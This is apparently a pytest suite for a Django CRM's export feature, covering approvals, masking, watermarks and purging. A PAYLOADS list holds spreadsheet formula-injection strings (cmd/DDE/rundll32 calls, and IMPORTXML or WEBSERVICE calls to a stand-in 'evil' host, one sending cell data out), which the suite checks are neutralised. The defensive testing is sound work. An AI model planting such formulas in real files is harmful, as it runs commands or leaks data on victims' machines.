"""Files out: registered before the first byte, approved where it matters, marked, defused, fetched once."""

import csv
import io
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import IntegrityError, transaction
from django.test import Client
from django.utils import timezone

from tests.conftest import Cast
from tests.shared_data import shared
from zhike.activities.models import Promise, Touch
from zhike.care import actions as care
from zhike.customers.actions.book import CustomerDraft, open_customer
from zhike.customers.models import Contact, Customer
from zhike.exchange.models import Export
from zhike.exchange.out import actions, jobs, marks, sheets
from zhike.exchange.out.actions import CannotLeave, Order
from zhike.exchange.out.columns import COLUMNS, What
from zhike.exchange.out.rules import needs_approval
from zhike.exchange.out.writing import folder_of, held_by
from zhike.service.models import Case
from zhike.trust.actor import Actor, Forbidden, Level
from zhike.trust.models import Event
from zhike.trust.requests import AlreadyDecided, OwnRequest
from zhike.users.models import User
from zhike.value.models import Measures

NOW = datetime.now(UTC)


def order(what: What = What.CUSTOMERS, address: str = "", **changes: object) -> Order:
    told = {
        "columns": (), "form": "csv", "purpose": "节日问候", "language": "zh", **changes,
    }  # fmt: skip
    return Order(what, address, **told)  # type: ignore[arg-type]  # a plain dict will do


def today(cast: Cast, user: User) -> Actor:
    return cast.actor(user, on=timezone.localdate())


@pytest.fixture
def fill(cast: Cast) -> Callable[[int], None]:
    """So many customers more for Lin."""

    def fill(count: int) -> None:
        there = Customer.objects.count()
        for n in range(there, there + count):
            name = f"客户{n:04}"
            Customer.objects.create(
                name=name, name_key=name, pinyin=f"k{n:04}", owner=cast.lin, team=cast.east
            )

    return fill


def fetched(export: Export, actor: Actor) -> bytes:
    path, _ = actions.take(actor, export.pk, at=timezone.now())
    return Path(path).read_bytes()


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.row("S4-29")
@pytest.mark.django_db(transaction=True)
def test_a_file_is_on_the_register_and_committed_before_its_first_byte(
    as_lin: Client, cast: Cast
) -> None:
    address = "/guard/exports/new/?what=customers&q=恒"
    assert "公司的共同财产" in as_lin.get(address).content.decode()
    said = {"columns": ["name", "city"], "file_type": "csv", "reason": "visit"}
    answer = as_lin.post(address, said)
    export = Export.objects.get()
    assert answer["Location"] == f"/guard/exports/{export.pk}/"
    (folder_of(export.folder) / "file").unlink()
    as_lin.raise_request_exception = False
    assert as_lin.post(f"/guard/exports/{export.pk}/take/").status_code == 500, (
        "not a byte left"
    )
    export.refresh_from_db()
    assert export.state == "taken"
    assert Event.objects.get(kind="export.taken").subject == f"exchange.export:{export.pk}"


def test_without_a_purpose_or_a_column_nothing_leaves(as_lin: Client) -> None:
    html = as_lin.post("/guard/exports/new/", {"file_type": "csv"}).content.decode()
    assert "请选一个用途" in html
    assert "至少选一列" in html
    assert not Export.objects.exists()


def test_a_file_is_fetched_once_within_a_day_and_only_by_whoever_asked(cast: Cast) -> None:
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(), at=NOW)
    with pytest.raises(Export.DoesNotExist):
        actions.take(today(cast, cast.sun), export.pk, at=NOW)
    assert read(fetched(export, lin))[1][0] == "深圳市恒远机械有限公司"
    with pytest.raises(CannotLeave):
        fetched(export, lin)
    late = actions.ask(lin, order(), at=NOW - timedelta(hours=25))
    with pytest.raises(CannotLeave):
        fetched(late, lin)


def test_the_list_leaves_as_it_was_filtered_and_no_row_one_does_not_see(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(5)
    open_customer(
        cast.actor(cast.zhao), CustomerDraft("成都别家"), owner_id=cast.zhao.pk, on=NOW.date()
    )
    lin = today(cast, cast.lin)
    everything = read(fetched(actions.ask(lin, order(), at=NOW), lin))
    assert len(everything) == 1 + 6 + 1
    some = read(fetched(actions.ask(lin, order(address="q=恒远&sort=revenue"), at=NOW), lin))
    assert [row[0] for row in some[1:-1]] == ["深圳市恒远机械有限公司"]
    assert "成都别家" not in str(everything)


def test_nothing_is_exported_when_no_row_fits(cast: Cast) -> None:
    with pytest.raises(CannotLeave):
        actions.ask(today(cast, cast.lin), order(address="q=没有这家"), at=NOW)


def test_the_service_desk_takes_no_files(cast: Cast, client: Client) -> None:
    with pytest.raises(Forbidden):
        actions.ask(today(cast, cast.wu), order(), at=NOW)
    client.force_login(cast.wu)
    assert client.get("/guard/exports/new/").status_code == 403


def test_two_hundred_rows_a_day_are_ones_own_affair() -> None:
    assert not needs_approval(200, before_today=0, is_of_strangers=False)
    assert needs_approval(201, before_today=0, is_of_strangers=False)
    assert needs_approval(199, before_today=199, is_of_strangers=False)
    assert needs_approval(1, before_today=0, is_of_strangers=True)


def test_a_hundred_and_ninety_nine_twice_a_day_needs_approval(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(198)
    lin = today(cast, cast.lin)
    first, second = (actions.ask(lin, order(), at=NOW) for _ in range(2))
    assert (first.rows, first.state, second.state) == (199, "ready", "waiting")
    actions.decide(today(cast, cast.qian), second.pk, grant=True, why="", at=NOW)
    assert jobs.write_queued() == 1
    second.refresh_from_db()
    assert second.state == "ready"
    assert len(read(fetched(second, lin))) == 201


def test_nobody_approves_his_own_file_not_even_by_sql(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(201)
    qian = today(cast, cast.qian)
    export = actions.ask(qian, order(), at=NOW)
    with pytest.raises(OwnRequest):
        actions.decide(qian, export.pk, grant=True, why="", at=NOW)
    with pytest.raises(IntegrityError), transaction.atomic():
        Export.objects.filter(pk=export.pk).update(decided_by=cast.qian)
    with pytest.raises(Forbidden):
        actions.decide(today(cast, cast.lin), export.pk, grant=True, why="", at=NOW)


def test_a_lead_of_another_team_does_not_decide(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(201)
    export = actions.ask(today(cast, cast.lin), order(), at=NOW)
    cast.zhao.role = "team_lead"
    cast.zhao.save()
    with pytest.raises(AlreadyDecided):
        actions.decide(today(cast, cast.zhao), export.pk, grant=True, why="", at=NOW)
    actions.decide(today(cast, cast.sun), export.pk, grant=False, why="太多", at=NOW)
    export.refresh_from_db()
    assert (export.state, export.decided_by) == ("refused", cast.sun)
    assert jobs.write_queued() == 0


def test_personal_columns_of_others_customers_are_masked_and_need_approval(
    cast: Cast,
) -> None:
    columns = ("name", "mobile", "birthday")
    director = today(cast, cast.sun)
    export = actions.ask(director, order(What.CONTACTS, columns=columns), at=NOW)
    assert (export.state, export.level) == ("waiting", Level.PERSONAL)
    actions.decide(today(cast, cast.feng), export.pk, grant=True, why="", at=NOW)
    jobs.write_queued()
    export.refresh_from_db()
    assert read(fetched(export, director))[1] == ["于海", "138****8000", "****"]
    lin = today(cast, cast.lin)
    own = actions.ask(lin, order(What.CONTACTS, columns=columns), at=NOW)
    assert read(fetched(own, lin))[1] == ["于海", "13800138000", "农历10-15"]


def test_no_column_of_any_file_is_sealed() -> None:
    assert all(c.level < Level.SEALED for columns in COLUMNS.values() for c in columns)


def test_rights_count_when_the_file_is_written_not_when_it_was_asked_for(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(201)
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(), at=NOW)
    actions.decide(today(cast, cast.qian), export.pk, grant=True, why="", at=NOW)
    Customer.objects.filter(name__startswith="客户").update(owner=cast.zhao)
    jobs.write_queued()
    export.refresh_from_db()
    assert len(read(fetched(export, lin))) == 3, "one customer is left that Lin sees"


def test_a_list_that_grew_after_approval_leaves_no_longer_than_was_approved(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(201)
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(), at=NOW)
    actions.decide(today(cast, cast.qian), export.pk, grant=True, why="", at=NOW)
    fill(30)
    jobs.write_queued()
    export.refresh_from_db()
    assert len(read(fetched(export, lin))) == 1 + 202 + 1


def test_whoever_left_meanwhile_gets_nothing(cast: Cast, fill: Callable[[int], None]) -> None:
    fill(201)
    export = actions.ask(today(cast, cast.lin), order(), at=NOW)
    actions.decide(today(cast, cast.qian), export.pk, grant=True, why="", at=NOW)
    User.objects.filter(pk=cast.lin.pk).update(is_active=False)
    jobs.write_queued()
    export.refresh_from_db()
    assert (export.state, export.folder) == ("ended", "")


def test_files_are_deleted_after_a_week_and_the_register_stays(cast: Cast) -> None:
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(), at=NOW - timedelta(days=8))
    path = folder_of(export.folder)
    assert path.exists()
    assert jobs.purge(NOW.date()) == 1
    assert jobs.purge(NOW.date()) == 0
    export.refresh_from_db()
    assert (path.exists(), export.state) == (False, "expired")
    assert held_by(export) == {"customers": [cast.hengyuan.pk], "persons": []}


PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "  =1+1", "\u3000=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u2060@x", "=HYPERLINK(\"http://evil\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=IMPORTDATA(\"http://evil\")",
    "=WEBSERVICE(\"http://evil\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\cmd'!''", "=1;2", "=A1&B1", "=\t1",
    "--1", "+-1", "=-1", "@@", "=", "+", "@", "-", "﹦1", "﹢1", "﹣1", "﹫x", "\x00=1", "\x0b=1",
    "=\"a\"\"b\"", "=IFERROR(1,2)", "+A1", "-A1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_formula_runs_in_a_csv_file(payload: str) -> None:
    cell = next(csv.reader(io.StringIO(sheets.csv_line([payload]).decode(), newline="")))[0]
    assert cell == f"'{payload}"


def test_more_than_forty_formulas_stay_texts_in_a_workbook(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 40
    sheet = sheets.Sheet("x", ["a"], [[p] for p in PAYLOADS], "end")
    sheets.write_xlsx(tmp_path / "x.xlsx", [sheet])
    cells = [row[0] for row in openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows()]  # type: ignore[union-attr]
    assert {cell.data_type for cell in cells if cell.value} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


@pytest.mark.parametrize("number", ["-12.50", "+86", "-3"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert sheets.defused(number) == number


def test_hostile_strings_of_the_world_pass_through_a_file(tmp_path: Path) -> None:
    archive = shared("strings_and_payloads") / "strings_shared.tar.gz"
    with tarfile.open(archive) as files:
        texts = [
            line
            for member in files.getmembers()
            if member.isfile() and member.name.endswith((".txt", ".csv", ".json"))
            for line in files.extractfile(member).read().decode("utf-8", "replace").splitlines()  # type: ignore[union-attr]
        ][:20_000]
    assert len(texts) > 100
    sheet = sheets.Sheet("x", ["a"], [[text] for text in texts], "end")
    sheets.write_csv(tmp_path / "x.csv", sheet)
    sheets.write_xlsx(tmp_path / "x.xlsx", [sheet])
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = [row[0] if row else "" for row in csv.reader(file)][1:-1]
    assert [row.removeprefix("'") for row in rows] == [t.removeprefix("'") for t in texts]
    assert not any(row.lstrip().startswith(("=", "@")) for row in rows)
    assert openpyxl.load_workbook(tmp_path / "x.xlsx", read_only=True).active.max_row  # type: ignore[union-attr]


def test_every_file_says_whose_copy_it_is_and_the_hidden_mark_leads_back(
    cast: Cast, tmp_path: Path
) -> None:
    lin, said = today(cast, cast.lin), io.StringIO()
    for form in ("csv", "xlsx"):
        export = actions.ask(lin, order(form=form), at=NOW)
        kept = tmp_path / f"found.{form}"
        kept.write_bytes(fetched(export, lin))
        call_command("whose", str(kept), lang="en", stdout=said)
        assert f"Export #{export.pk}: asked for by 林一" in said.getvalue()
    last = read(kept.with_suffix(".csv").read_bytes())[-1][0]
    assert "林一" in last
    assert "密级：内部" in last
    with pytest.raises(CommandError):
        call_command("whose", __file__, lang="en")


def test_two_copies_of_the_same_list_differ_only_in_their_marks(cast: Cast) -> None:
    lin = today(cast, cast.lin)
    one, other = (read(fetched(actions.ask(lin, order(), at=NOW), lin)) for _ in range(2))
    assert one[1:-1] == other[1:-1]
    assert marks.found_in(one[0][0]) != marks.found_in(other[0][0])


@pytest.mark.row("S1-68")
def test_the_summary_counts_and_sums_with_a_chart(
    cast: Cast, fill: Callable[[int], None]
) -> None:
    fill(3)
    for customer in Customer.objects.exclude(pk=cast.hengyuan.pk):
        Measures.objects.create(
            customer=customer, as_of=NOW.date(), buying_days=1, orders_12m=1,
            revenue_12m=12_345, revenue_prev_12m=0, target_basis="none",
        )  # fmt: skip
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(What.SUMMARY, form="xlsx"), at=NOW)
    assert export.state == "ready"
    book = openpyxl.load_workbook(io.BytesIO(fetched(export, lin)))
    assert book.sheetnames == ["等级", "行业", "城市", "主管人"]
    owners = book["主管人"]
    assert [cell.value for cell in owners[2]] == ["林一", 4, 370.35, 100]
    assert all(len(vars(page)["_charts"]) == 1 for page in book)


@pytest.mark.row("S1-68")
def test_touches_and_promises_leave_with_day_kind_and_author(cast: Cast) -> None:
    Touch.objects.create(
        customer=cast.hengyuan,
        contact=cast.yu,
        kind="call",
        touched_on=NOW.date(),
        by=cast.lin,
        summary="=1",
    )
    Promise.objects.create(
        customer=cast.hengyuan,
        what="寄样品",
        made_on=NOW.date(),
        made_by=cast.lin,
        due_on=NOW.date(),
    )
    lin = today(cast, cast.lin)
    address = f"customer={cast.hengyuan.pk}"
    touches = read(fetched(actions.ask(lin, order(What.TOUCHES, address), at=NOW), lin))
    assert touches[1][3:] == ["电话", "于海", "林一", "'=1"]
    promises = read(fetched(actions.ask(lin, order(What.PROMISES, address), at=NOW), lin))
    assert promises[1][2] == "寄样品"
    with pytest.raises(Customer.DoesNotExist):
        actions.ask(today(cast, cast.zhao), order(What.TOUCHES, address), at=NOW)


def test_money_is_a_number_in_a_workbook(cast: Cast, tmp_path: Path) -> None:
    sheet = sheets.Sheet("x", ["a"], [[Decimal("12.50")], [None]], "end")
    sheets.write_xlsx(tmp_path / "x.xlsx", [sheet])
    page = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert page
    assert page["A2"].value == 12.5


def test_contacts_hold_persons_on_the_register(cast: Cast) -> None:
    lin = today(cast, cast.lin)
    export = actions.ask(lin, order(What.CONTACTS), at=NOW)
    export.refresh_from_db()
    assert held_by(export)["persons"] == [Contact.objects.get().pk]


@pytest.mark.row("S1-43")
@pytest.mark.row("S1-68")
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_register_of_cases_leaves_as_its_page_shows_it_with_its_own_times(
    cast: Cast, form: str
) -> None:
    lin = today(cast, cast.lin)
    for kind, summary in (("complaint", "=1+1 又断电"), ("question", "问价")):
        care.receive_case(
            lin, customer_id=cast.hengyuan.pk, kind=kind, summary=summary, contact_id=cast.yu.pk,
            at=datetime(2026, 3, 2, 2, tzinfo=UTC),
        )  # fmt: skip
    other = Customer.objects.create(name="西部机电", owner=cast.zhao)
    Case.objects.create(customer=other, kind="complaint", summary="别人的", received_at=NOW)
    page = "since=2026-03-01&until=2026-03-31&kind=unhappy&cause=&department=&product=&state="
    export = actions.ask(lin, order(What.CASES, page, form=form), at=NOW)
    assert (export.rows, held_by(export)) == (
        1,
        {"customers": [cast.hengyuan.pk], "persons": [cast.yu.pk]},
    )
    content = fetched(export, lin)
    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        cells = [str(cell.value) for cell in sheet[2]]
        assert all(cell.data_type != "f" for row in sheet for cell in row)
    else:
        cells = read(content)[1]
    assert {"投诉", "2026-03-02 10:00", "在办"} <= set(cells)
    assert not any("别人的" in cell or "问价" in cell for cell in cells)


def test_the_page_that_asks_for_the_register_keeps_its_filters(
    cast: Cast, as_lin: Client
) -> None:
    page = as_lin.get("/service/register/?since=2026-03-01&until=2026-03-31&kind=").context
    shown = as_lin.get(f"/guard/exports/new/?{page['file']}")
    assert "since=2026-03-01" in page["file"]
    assert shown.context["what"] is What.CASES
